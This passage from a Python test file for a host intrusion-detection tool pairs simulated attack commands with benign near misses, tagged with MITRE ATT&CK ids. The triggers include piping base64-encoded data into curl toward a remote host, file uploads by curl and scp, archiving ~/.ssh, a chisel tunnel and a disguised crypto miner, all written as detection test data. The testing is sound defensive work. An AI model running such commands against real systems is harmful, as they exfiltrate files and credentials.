        why="find for keys across /home and /etc vs in the working directory"),
    # ---------------------------------------------------------------- discovery
    Row("network-scanner", "TA0007 T1046",
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/nmap",
        trigger="@T@/bin/nmap -sT -p 1-1024 127.0.0.1",
        near="nc -z -w 1 127.0.0.1 @PORT@",
        why="a scanner (by name, as dropped) vs a one-port health check"),
    Row("network-sniffer", "TA0007 T1040",
        trigger="timeout 2 tcpdump -i lo -c 1 -w /dev/null",
        near="ip -s link show lo",
        trigger_rc=False,
        why="a packet capture vs interface counters"),
    Row("system-fingerprinting", "TA0007 T1082",
        trigger="cat /etc/os-release /proc/version /proc/cpuinfo /proc/meminfo /etc/machine-id /etc/hostname >/dev/null",
        near="cat /etc/os-release >/dev/null",
        why="a burst of machine-description reads vs one read"),
    Row("system-fingerprinting", "TA0007 T1082",
        trigger="cat /proc/version /proc/cpuinfo /proc/meminfo /proc/self/mountinfo /proc/self/cgroup /etc/os-release >/dev/null",
        near="pgrep -f vg-no-such-process-@ID@ || true",
        why="a burst of machine-description reads vs pgrep scanning every process (it reads each one's cgroup)"),
    Row("security-tooling-recon", "TA0007 T1518.001",
        trigger="ls -la /sys/fs/bpf >/dev/null",
        near="bpftool prog show >/dev/null",
        why="the BPF filesystem listed by ls vs BPF state listed by bpftool"),
    # ---------------------------------------------------------------- command and control
    Row("tunnel-tool-run", "TA0011 T1572",
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/chisel",
        trigger="@T@/bin/chisel client 198.51.100.7:8080 R:socks",
        near="ssh -V",
        why="a tunnel/SOCKS pivot dropped on the host (by name) vs the SSH client"),
    Row("remote-access-tool-run", "TA0011 T1219",
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/tmate",
        trigger="@T@/bin/tmate -F new-session",
        near="tmux -V",
        why="tmate shares the terminal through a public relay vs tmux, the local multiplexer"),
    # ---------------------------------------------------------------- exfiltration, collection
    Row("network-file-copy", "TA0010 T1048",
        setup="echo report > @T@/report.txt",
        trigger=f"scp -q -o BatchMode=yes -o ConnectTimeout=2 @T@/report.txt backup@{REMOTE}:/srv/",
        near="scp -q -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no @T@/report.txt localhost:/tmp/",
        near_rc=False,
        why="scp to a remote host vs to localhost"),
    Row("http-file-upload", "TA0010 T1048",
        setup="echo report > @T@/report.txt",
        trigger=f"curl -s -m 2 -T @T@/report.txt http://{REMOTE}/upload",
        near=f"curl -s -m 2 -o @T@/dl http://{REMOTE}/file",
        near_rc=False,
        why="curl uploading a file vs downloading one"),
    Row("encoded-data-to-network", "TA0010 T1048",
        setup="echo secret > @T@/report.txt",
        trigger=f"cat @T@/report.txt | base64 | curl -s -m 2 -d @- http://{REMOTE}/c",
        near=f"curl -s -m 2 http://{REMOTE}/x | base64 -d",
        near_rc=False,
        why="data encoded and piped into curl vs a download decoded"),
    Row("sensitive-files-archived", "TA0009 T1560.001",
        setup="mkdir -p @H@/.ssh @T@/proj/build && echo k > @H@/.ssh/config && echo o > @T@/proj/build/out",
        trigger="tar czf @T@/k.tgz -C @H@ .ssh",
        near="tar czf @T@/build.tgz -C @T@/proj build",
        why="~/.ssh archived vs a build output archived"),
    # ---------------------------------------------------------------- impact
    Row("crypto-miner-exe", "TA0040 T1496",
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/xmrig",
        trigger="@T@/bin/xmrig --version",
        near="sha256sum @T@/bin/xmrig",
        why="a miner started vs its binary hashed (a scanner looking at it)"),
    Row("crypto-miner-args", "TA0040 T1496",
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/kswapd1 && echo 'stratum is a pool protocol' > @T@/notes",
        trigger="@T@/bin/kswapd1 -o stratum+tcp://pool.example.net:3333 -u wallet --donate-level 1",
        near="grep -c stratum @T@/notes",
        why="a renamed miner with a pool URL vs a search for the word"),
    # ---------------------------------------------------------------- off by default here;
    # run when enabled (issue 5 adds the kernel argument filter that enables them)
    Row("bpf-program-loaded", "TA0005 T1014",
        trigger="@PY@ @S@/actor.py bpf-prog-load",
        near="bpftool prog show >/dev/null",
        why="a BPF program loaded by a script vs BPF state listed by bpftool"),
    Row("packet-socket-opened", "TA0007 T1040",
        trigger="@PY@ @S@/actor.py packet-socket",
        near="@PY@ @S@/actor.py inet-socket",
        why="an AF_PACKET socket vs an AF_INET one"),
]


def rule_list():
    r = subprocess.run([VIGIL, "rules", "list", "--json"], capture_output=True, text=True,
                       check=True)
    return {x["id"]: x for x in json.loads(r.stdout) if x["source"] == "builtin"}


# ---------------------------------------------------------------- fixtures

class Listener:
    """127.0.0.1:PORT; each connection is held 2.5 s, then told "exit" and closed."""

    def __init__(self):
        self.s = socket.socket()
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.s.bind(("127.0.0.1", 0))
        self.s.listen(16)
        self.port = self.s.getsockname()[1]
        self.stop = threading.Event()
        threading.Thread(target=self.loop, daemon=True).start()

    def loop(self):
        self.s.settimeout(0.2)
        while not self.stop.is_set():
            try:
                c, _ = self.s.accept()
            except OSError:
                continue
            threading.Thread(target=self.hold, args=(c,), daemon=True).start()

    @staticmethod
    def hold(c):
        time.sleep(2.5)
        try:
            c.sendall(b"exit\n")
            time.sleep(0.2)
        except OSError:
            pass
        c.close()

    def close(self):
        self.stop.set()
        self.s.close()


@pytest.fixture(scope="module")
def scen():
    d, fs, rules_dir = defaults_daemon("scenarios")
    tmp = tempfile.mkdtemp(prefix="vg-scen-")
    os.chmod(tmp, 0o755)
    home = f"/home/vg-scen-{uuid.uuid4().hex[:8]}"
    os.makedirs(home)
    lst = Listener()
    victim = subprocess.Popen(["/usr/bin/sleep", "3600"])  # a sibling of every actor
    ctx = {"@S@": SCEN, "@T@": tmp, "@H@": home, "@PORT@": str(lst.port),
           "@VICTIM@": str(victim.pid), "@PY@": PY}
    env = dict(os.environ, HOME=home, PATH=PATH, LC_ALL="C")
    env.pop("LD_PRELOAD", None)
    yield {"d": d, "fs": fs, "ctx": ctx, "env": env, "tmp": tmp, "enabled": rule_list()}
    victim.kill()
    victim.wait()
    lst.close()
    d.stop()
    d.purge()
    shutil.rmtree(tmp, ignore_errors=True)
    shutil.rmtree(home, ignore_errors=True)
    shutil.rmtree(rules_dir, ignore_errors=True)


def fill(s, ctx):
    for k, v in ctx.items():
        s = s.replace(k, v)
    return s


def sh(script, env):
    return subprocess.run(["/bin/bash", "-c", script], env=env, capture_output=True, text=True)


# Files that the rows touch in place (zero-byte appends, a sysctl's own value):
# their content must be the same afterwards.
WATCHED = ["/etc/passwd", "/etc/group", "/proc/sys/kernel/core_pattern",
           "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/swappiness"]


def digest(path):
    try:
        with open(path, "rb") as f:
            return hashlib.sha256(f.read()).hexdigest()
    except OSError:
        return None


# ---------------------------------------------------------------- the table

@pytest.mark.parametrize("row", ROWS, ids=[f"{r.rule}-{i}" for i, r in enumerate(ROWS)])
def test_rule_scenario(scen, row):
    spec = scen["enabled"].get(row.rule)
    assert spec, f"{row.rule}: not a default rule (stale row?)"
    if not spec["enabled"]:
        pytest.skip(f"{row.rule} is disabled by default")
    if row.needs and not os.path.exists(row.needs):
        pytest.skip(f"{row.rule}: {row.needs} does not exist on this host "
                    f"(kernel or package feature missing)")
    d, fs, env = scen["d"], scen["fs"], scen["env"]
    ctx = dict(scen["ctx"], **{"@ID@": uuid.uuid4().hex[:6]})
    # the files this row writes in place (other work on the host may change the rest)
    touched = [p for p in WATCHED if p in row.trigger + row.near]
    before = {p: digest(p) for p in touched}
    try:
        if row.deb:
            files = {}
            for path, c in row.deb.get("files", {}).items():
                content, mode = c if isinstance(c, tuple) else (c, 0o644)
                files[fill(path, ctx)] = (content, mode)
            ctx["@DEB@"] = build_deb(scen["tmp"], fill("vg-scen-@ID@", ctx), files,
                                     postinst=fill(row.deb.get("postinst", ""), ctx) or None,
                                     postrm=fill(row.deb.get("postrm", ""), ctx) or None)
        if row.setup:
            r = sh(fill(row.setup, ctx), env)
            assert r.returncode == 0, f"setup failed: {r.stderr}"

        npid, nmark, nrc, nerr = marked_shell(DPKG_RETRY + fill(row.near, ctx), env=env,
                                              cwd=scen["tmp"])
        if row.near_rc:
            assert nrc == 0, f"the near miss did not run: rc={nrc} {nerr}"
        tpid, tmark, trc, terr = marked_shell(fill(row.trigger, ctx), env=env, cwd=scen["tmp"])
        if row.trigger_rc:
            assert trc == 0, f"the trigger did not run: rc={trc} {terr}"

        got = fs.wait(row.rule, lambda f: under(f, tpid, tmark), timeout=row.timeout)
        assert got, (f"{row.rule}: no finding for the trigger (rc={trc}, stderr={terr!r}); "
                     f"findings seen: {[describe(f) for f in fs.all()][-10:]}; "
                     f"sensor counters: {d.counters()}; "
                     f"rule activity: {[a for a in d.status()['detections']['rules_activity'] if a['id'] == row.rule]}")
        time.sleep(0.3)
        near = [f for f in fs.of(row.rule) if under(f, npid, nmark)]
        assert not near, f"{row.rule} fired on the near miss ({row.why}): " + \
            "; ".join(describe(f) for f in near)

        f = got[0]
        tactic, technique = row.mitre.split()
        m = f["rule"]["mitre"]
        assert (m["tactic"]["id"], m["technique"]["id"]) == (tactic, technique), m
        assert m["tactic"]["name"] and m["technique"]["name"]
        assert f["rule"]["severity"] == spec["severity"] and f["rule"]["source"] == "builtin"
        assert f["ancestry"][-1]["pid"] == 1 or f["ancestry"][-1].get("missing")
        assert os.getpid() in [a["pid"] for a in f["ancestry"]], "the chain runs up through the test"
    finally:
        if row.cleanup:
            sh(fill(row.cleanup, ctx), env)
    after = {p: digest(p) for p in touched}
    assert after == before, f"a system file was changed by the scenario: {before} -> {after}"


def test_every_enabled_default_rule_has_a_scenario():
    """A default rule without a trigger and a near miss is a rule nobody has seen work."""
    rules = rule_list()
    covered = {r.rule for r in ROWS}
    missing = sorted(i for i, r in rules.items() if r["enabled"] and i not in covered)
    assert not missing, f"enabled default rules without a scenario row: {missing}"
    stale = sorted(covered - set(rules))
    assert not stale, f"scenario rows for rules that no longer exist: {stale}"
    for r in ROWS:
        assert r.trigger and r.near and r.why, r.rule
        assert re.fullmatch(r"TA\d{4} T\d{4}(\.\d{3})?", r.mitre), r.mitre
        m = rules[r.rule]["mitre"]
        assert r.mitre.split() == [m["tactic"], m["technique"]], \
            f"{r.rule}: the row's MITRE ids differ from the rule's"
